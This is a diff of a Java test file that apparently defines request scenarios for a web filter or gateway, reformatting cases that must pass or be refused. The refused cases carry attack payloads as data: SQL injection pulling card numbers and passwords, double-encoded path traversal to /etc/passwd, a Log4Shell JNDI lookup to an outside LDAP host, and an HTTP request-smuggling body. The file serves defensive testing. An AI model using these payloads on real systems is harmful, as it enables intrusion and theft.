@@ -18,12 +18,23 @@ public final class Scenes {
     public static List<Scene> all() {
         return List.of(
                 passes("an order is read", get("/orders/42")),
-                passes("an order is placed", post("/orders", "application/json", text("{\"item\":7,\"note\":\"O'Reilly\"}"))),
+                passes(
+                        "an order is placed",
+                        post("/orders", "application/json", text("{\"item\":7,\"note\":\"O'Reilly\"}"))),
                 passes("a search for the words 'union select'", get("/search?q=european+union+select+committee")),
-                refused("SQL injection in a parameter", "sqli", get("/orders/42?id=1%27%20UNION%20SELECT%20card%20FROM%20users--")),
+                refused(
+                        "SQL injection in a parameter",
+                        "sqli",
+                        get("/orders/42?id=1%27%20UNION%20SELECT%20card%20FROM%20users--")),
                 refused("path traversal, encoded twice", "traversal", get("/static/%252e%252e/%252e%252e/etc/passwd")),
-                refused("log4shell in a header", "log4shell", get("/orders/42", "User-Agent: ${${lower:j}ndi:ldap://198.51.100.7/a}")),
-                refused("SQL injection in a gzipped body", "sqli", gzipPost("/orders", "{\"id\":\"1' OR '1'='1' UNION SELECT password FROM users\"}")),
+                refused(
+                        "log4shell in a header",
+                        "log4shell",
+                        get("/orders/42", "User-Agent: ${${lower:j}ndi:ldap://198.51.100.7/a}")),
+                refused(
+                        "SQL injection in a gzipped body",
+                        "sqli",
+                        gzipPost("/orders", "{\"id\":\"1' OR '1'='1' UNION SELECT password FROM users\"}")),
                 refused("a card number leaves in a response", "dlp", get("/reports/payments")),
                 refused("a call that no allowlist rule covers", "allowlist", request("DELETE", "/orders/42")),
                 new Scene("request smuggling, two framings at once", List.of(smuggled()), 400, "http."),
@@ -71,8 +82,9 @@ public final class Scenes {
     }
 
     private static byte[] smuggled() {
-        return text("POST /orders HTTP/1.1\r\nHost: shop.test\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n"
-                + "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: shop.test\r\n\r\n");
+        return text(
+                "POST /orders HTTP/1.1\r\nHost: shop.test\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n"
+                        + "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: shop.test\r\n\r\n");
     }
 
     private static byte[] joined(byte[] first, byte[] second) {
